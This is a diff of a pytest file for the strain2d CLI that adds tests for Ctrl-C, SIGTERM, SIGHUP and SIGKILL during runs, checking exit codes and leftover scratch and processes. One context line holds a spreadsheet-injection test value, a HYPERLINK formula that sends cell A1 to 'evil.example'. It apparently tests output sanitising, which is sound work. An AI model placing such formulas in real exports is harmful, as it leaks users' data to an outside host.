@@ -5,7 +5,12 @@ See tests/badinput.py for the contract and the families.
 
 from __future__ import annotations
 
+import os
 import shutil
+import signal
+import subprocess
+import sys
+import time
 from pathlib import Path
 from types import SimpleNamespace
 
@@ -15,12 +20,19 @@ import tifffile
 
 from strain2d.cli import main
 from tests.badinput import (
+    REPO,
+    WRITING,
     assert_inert,
+    assert_no_process_left,
     assert_refused,
     interrupt,
+    killed,
+    message_lines,
     parse_case_id,
     scratch_left,
+    session_processes,
     snapshot,
+    stale_scratch,
     unwritable_folder,
     write,
 )
@@ -32,6 +44,7 @@ from tests.filenames import (
     shown,
     strict_json,
 )
+from tissue_core.outputs import foreign_content, read_marker
 
 PROG = "strain2d"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
@@ -481,7 +494,8 @@ def test_bad_input_cases_name_their_command_and_family():
     assert len({case for case, *_ in ALL}) == len(ALL)
 
 
-# ---- Ctrl-C at chosen moments of a real run (a process of its own) ------------------------
+# ---- Ctrl-C, SIGTERM and SIGHUP at chosen moments of a real run (a process of its own), and
+# ---- the scratch of runs killed outright (SIGKILL)
 
 
 @pytest.fixture(scope="module")
@@ -495,6 +509,204 @@ def long_video(tmp_path_factory):
     return folder / "rotation.avi"
 
 
+@pytest.fixture(scope="module")
+def two_runs(inputs, tmp_path_factory):
+    """Two analyze runs of the small video: the specimens of a study."""
+    folder = tmp_path_factory.mktemp("two_runs")
+    for name in ("S01", "S02"):
+        assert main([*map(str, _analyze(inputs)), "--out", str(folder / name)]) == 0
+    return folder
+
+
+@pytest.fixture(scope="module")
+def small_manifest(inputs, tmp_path_factory):
+    """A batch manifest of four copies of the small video (``manifest.csv``; its first two
+    rows: ``pair.csv``)."""
+    folder = tmp_path_factory.mktemp("manifest")
+    rows = ["video,specimen"]
+    for k in range(1, 5):
+        shutil.copy(inputs.avi, folder / f"S0{k}.avi")
+        rows.append(f"S0{k}.avi,S0{k}")
+    (folder / "manifest.csv").write_text("\n".join(rows) + "\n")
+    (folder / "pair.csv").write_text("\n".join(rows[:3]) + "\n")
+    return folder / "manifest.csv"
+
+
+#: ``python -c``: strain2d analyze with the compiled IC-GN kernel called over and over (inside
+#: the tracker's deferred block) until a signal arrives, so that it lands while compiled code
+#: runs; it says whether the signal was held until the kernel's block ended
+IN_KERNEL = """
+import runpy, sys, time
+import strain2d.trackers._icgn_kernel as kernel
+from tissue_core import interrupt
+real = kernel.icgn
+calls = []
+def icgn(*args):
+    result = real(*args)  # the first call loads the compiled kernel
+    calls.append(1)
+    if len(calls) == 2:
+        print("[icgn running]", file=sys.stderr, flush=True)
+        began = time.perf_counter()
+        while not interrupt._state.pending and time.perf_counter() - began < 60:
+            result = real(*args)
+        if interrupt._state.pending:
+            print("[icgn: the signal was held until the kernel's block ended]", file=sys.stderr)
+    return result
+kernel.icgn = icgn
+sys.argv = ["strain2d", *sys.argv[1:]]
+runpy.run_module("strain2d", run_name="__main__", alter_sys=True)  # as python -m strain2d
+"""
+
+
+def _signalled(request, tmp_path, *, when, after, grid, signum, kernel=False):
+    """analyze of the long video, with a signal at a stage."""
+    long_video = request.getfixturevalue("long_video")
+    out = tmp_path / "run"
+    argv = ["-c", IN_KERNEL] if kernel else ["-m", "strain2d"]
+    argv += ["analyze", long_video, "--grid", grid, "--animation", "mp4", "--out", out]
+    if kernel:
+        argv += ["--tracker", "dic"]
+    status, err = interrupt(argv, after=after, when=when, out=out, inputs=[long_video.parent],
+                            signum=signum)  # fmt: skip
+    assert status == 128 + signum
+    assert [p.name for p in tmp_path.iterdir()] == (["run"] if out.exists() else [])
+    if kernel:
+        assert "[icgn: the signal was held until the kernel's block ended]" in err, err
+
+
+def _terminated(request, tmp_path, *, command, when, after):
+    """Another command that writes results, with SIGTERM at a stage."""
+    c, out = request.getfixturevalue("inputs"), tmp_path / "out"
+    if command == "track":
+        video = request.getfixturevalue("long_video")
+        out = tmp_path / "tracks.csv"
+        argv, inputs = ["track", video, "--grid", "40x40"], [video.parent]
+    elif command == "study":
+        runs = request.getfixturevalue("two_runs")
+        argv, inputs = ["study", runs / "S01", runs / "S02"], [runs]
+    else:
+        argv, inputs = ["benchmark", "--quick", "--cases", "equibiaxial", "--trackers", "dic"], []
+    status, _ = interrupt(["-m", "strain2d", *argv, "--out", out], after=after, when=when,
+                          out=out, inputs=[*inputs, c.dir], signum=signal.SIGTERM)  # fmt: skip
+    assert status == 143 and not out.exists()
+    assert list(tmp_path.iterdir()) == []
+
+
+def _hung_up(request, tmp_path):
+    """SIGHUP once the terminal the command writes to is gone: no line can be printed."""
+    import pty
+
+    video = request.getfixturevalue("long_video")
+    out = tmp_path / "run"
+    terminal, screen = pty.openpty()
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "strain2d", "analyze", video, "--grid", "40x40", "--out", out],
+        stdin=subprocess.DEVNULL, stdout=screen, stderr=screen, start_new_session=True,
+        env={**os.environ, "PYTHONPATH": str(REPO)},
+    )  # fmt: skip
+    os.close(screen)
+    shown = b""
+    while b"tracking 1600 points" not in shown:
+        try:
+            shown += os.read(terminal, 4096)
+        except OSError:  # the command ended: it closed the terminal's other side
+            break
+    proc.send_signal(signal.SIGHUP)  # the terminal window is closed: the command is told so
+    os.close(terminal)  # ... and what it prints from now on goes nowhere (EIO)
+    assert proc.wait(timeout=120) == 129, shown.decode(errors="replace")
+    assert_no_process_left(proc.pid)
+    assert list(tmp_path.iterdir()) == []
+
+
+def _stale(request, tmp_path, *, command):
+    """A run killed (SIGKILL) while writing; the next run removes what it left."""
+    c = request.getfixturevalue("inputs")
+    out = tmp_path / ("tracks.csv" if command == "track" else "out")
+    if command == "analyze":
+        argv = [*_analyze(c), "--out", out]
+        assert killed(["-m", "strain2d", *argv], out=out)  # a real run, killed mid-way
+    elif command == "track":  # its file is written in milliseconds: its scratch, as left
+        argv = [*_track(c), "--out", out]
+        stale_scratch(out, "file")
+    elif command == "study":
+        runs = request.getfixturevalue("two_runs")
+        argv = ["-q", "study", runs / "S01", runs / "S02", "--out", out]
+        stale_scratch(out)
+    else:  # the benchmark's rerun is stopped (SIGTERM) once it writes: it removed the scratch
+        stale_scratch(out)
+        argv = ["benchmark", "--quick", "--cases", "equibiaxial", "--trackers", "dic"]
+        interrupt(["-m", "strain2d", *argv, "--out", out], after=0.0, when=WRITING, out=out,
+                  signum=signal.SIGTERM)  # fmt: skip
+        assert list(tmp_path.iterdir()) == []
+        return
+    assert main([str(a) for a in argv]) == 0
+    assert scratch_left(tmp_path) == [] and out.exists()
+
+
+def _batch_terminated(request, tmp_path, *, moment):
+    """SIGTERM to a batch on a local cluster of two workers (``kill PID``: the batch process
+    alone) while a run is made, or while the cluster starts: it stops the workers, and whole
+    runs only are left."""
+    import threading
+
+    manifest = request.getfixturevalue("small_manifest")
+    out = tmp_path / "b"
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "strain2d", "batch", manifest, "--workers", "2", "--out", out,
+         "--no-study", "--grid", "3x3", "--animation", "none"],
+        stderr=subprocess.PIPE, text=True, errors="replace", start_new_session=True,
+        env={**os.environ, "PYTHONPATH": str(REPO)},
+    )  # fmt: skip
+    lines: list[str] = []
+    reader = threading.Thread(target=lambda: lines.extend(proc.stderr), daemon=True)
+    reader.start()
+    runs = out / "runs"
+
+    def now() -> bool:
+        if moment == "run":
+            return any(runs.glob(".S0*.tmp-*"))
+        # its worker processes exist, and the cluster is not up yet
+        started = any("workers;" in line for line in list(lines))
+        return len(session_processes(proc.pid)) > 1 and not started
+
+    deadline = time.monotonic() + 120
+    while proc.poll() is None and not now():
+        assert time.monotonic() < deadline, f"no {moment} seen"
+        time.sleep(0.002)
+    proc.send_signal(signal.SIGTERM)
+    proc.wait(timeout=120)
+    reader.join(timeout=10)
+    proc.stderr.close()
+    err = "".join(lines)
+    assert proc.returncode == 143, err
+    assert "Traceback" not in err, err
+    last = message_lines(err)[-1]
+    assert last.startswith("strain2d batch: terminated (SIGTERM)"), err
+    assert_no_process_left(proc.pid)  # the cluster's workers ended with the batch
+    made = sorted(runs.iterdir()) if runs.is_dir() else []  # none while the cluster starts
+    assert not runs.is_dir() or scratch_left(runs) == []
+    for run in made:  # whole runs only, with their marker, named in the line
+        assert read_marker(run) is not None and foreign_content(run) is None, run
+        assert str(run) in last, last
+    assert "terminated (SIGTERM): " in (out / "batch.log").read_text()
+
+
+def _batch_stale(request, tmp_path):
+    """A batch killed (SIGKILL) while it makes a run, and the scratch of a study killed so; the
+    rerun leaves no scratch anywhere."""
+    manifest = request.getfixturevalue("small_manifest").with_name("pair.csv")
+    out = tmp_path / "b"
+    argv = ["batch", manifest, "--workers", "1", "--out", out, "--grid", "3x3",
+            "--animation", "none"]  # fmt: skip
+    assert killed(["-m", "strain2d", *argv], out=out / "runs" / "S02")  # S01 was made
+    stale_scratch(out / "study")
+    assert main(["-q", *map(str, argv)]) == 0
+    for folder in (out, out / "runs", out / "study"):
+        assert scratch_left(folder) == [], folder
+    assert not (out / ".batch.lock").exists()
+    assert sorted(p.name for p in (out / "runs").iterdir()) == ["S01", "S02"]
+
+
 #: Ctrl-C ``after`` seconds after the step ``when`` was printed (None: after the start), on a
 #: run of a dense grid where it must land in tracking, of a coarse one (quicker) after tracking
 STAGES = [
@@ -505,22 +717,62 @@ STAGES = [
     ("strain on", 0.02, "12x12", "tables"),
     ("figures and animation", 0.5, "12x12", "figures"),
 ]
+#: SIGTERM (``kill``, ``timeout``, ``scancel``, ``docker stop``) and SIGHUP at stages
+TERMINATE_STAGES = [
+    ("frames of", 0.02, "40x40", signal.SIGTERM, "reading"),
+    ("[icgn running]", 0.05, "40x40", signal.SIGTERM, "in-icgn-kernel"),
+    ("strain on", 0.02, "12x12", signal.SIGTERM, "tables"),
+    ("figures and animation", 0.5, "12x12", signal.SIGTERM, "figures-and-animation"),
+    ("tracking 1600 points (gdic)", 0.3, "40x40", signal.SIGHUP, "sighup-tracking"),
+]
+INTERRUPTS = [
+    *(
+        pytest.param(
+            _signalled,
+            {"when": w, "after": a, "grid": g, "signum": signal.SIGINT},
+            id=f"analyze-interrupt-{stage}",
+        )
+        for w, a, g, stage in STAGES
+    ),
+    *(
+        pytest.param(
+            _signalled,
+            {"when": w, "after": a, "grid": g, "signum": s, "kernel": stage == "in-icgn-kernel"},
+            id=f"analyze-terminate-{stage}",
+        )
+        for w, a, g, s, stage in TERMINATE_STAGES
+    ),
+    pytest.param(_hung_up, {}, id="analyze-terminate-sighup-terminal-closed"),
+    pytest.param(
+        _terminated,
+        {"command": "track", "when": "tracking 1600", "after": 0.3},
+        id="track-terminate-tracking",
+    ),
+    pytest.param(
+        _terminated,
+        {"command": "study", "when": WRITING, "after": 0.1},
+        id="study-terminate-writing",
+    ),
+    pytest.param(
+        _terminated,
+        {"command": "benchmark", "when": "tracking with dic", "after": 0.3},
+        id="benchmark-terminate-tracking",
+    ),
+    pytest.param(_batch_terminated, {"moment": "run"}, id="batch-terminate-local-cluster"),
+    pytest.param(
+        _batch_terminated, {"moment": "cluster-start"}, id="batch-terminate-cluster-starting"
+    ),
+    *(
+        pytest.param(_stale, {"command": command}, id=f"{command}-stale-killed-run")
+        for command in ("analyze", "track", "study", "benchmark")
+    ),
+    pytest.param(_batch_stale, {}, id="batch-stale-killed-batch"),
+]
 
 
-@pytest.mark.parametrize(
-    ("when", "after", "grid"),
-    [s[:3] for s in STAGES],
-    ids=[f"analyze-interrupt-{s[3]}" for s in STAGES],
-)
-def test_interrupt(long_video, tmp_path, when, after, grid):
-    out = tmp_path / "run"
-    status, _ = interrupt(
-        ["-m", "strain2d", "analyze", long_video, "--grid", grid, "--animation", "mp4",
-         "--out", out],
-        after=after, when=when, out=out, inputs=[long_video.parent],
-    )  # fmt: skip
-    assert status == 130
-    assert [p.name for p in tmp_path.iterdir()] == (["run"] if out.exists() else [])
+@pytest.mark.parametrize(("scenario", "options"), INTERRUPTS)
+def test_interrupt(scenario, options, request, tmp_path):
+    scenario(request, tmp_path, **options)
 
 
 def test_a_foreign_folder_survives_an_overwrite_attempt_untouched(inputs, capsys):
@@ -705,3 +957,10 @@ class TestNamesNotUtf8:
         NAME_CASES[case](latin1_names, tmp)
         assert snapshot(latin1_names.dir) == before  # inputs untouched
         assert scratch_left(tmp) == []
+
+
+def test_every_command_has_terminate_and_stale_cases():
+    ids = [p.id for p in INTERRUPTS]
+    for command in ("analyze", "track", "study", "benchmark", "batch"):
+        for family in ("terminate", "stale"):
+            assert any(i.startswith(f"{command}-{family}-") for i in ids), (command, family)
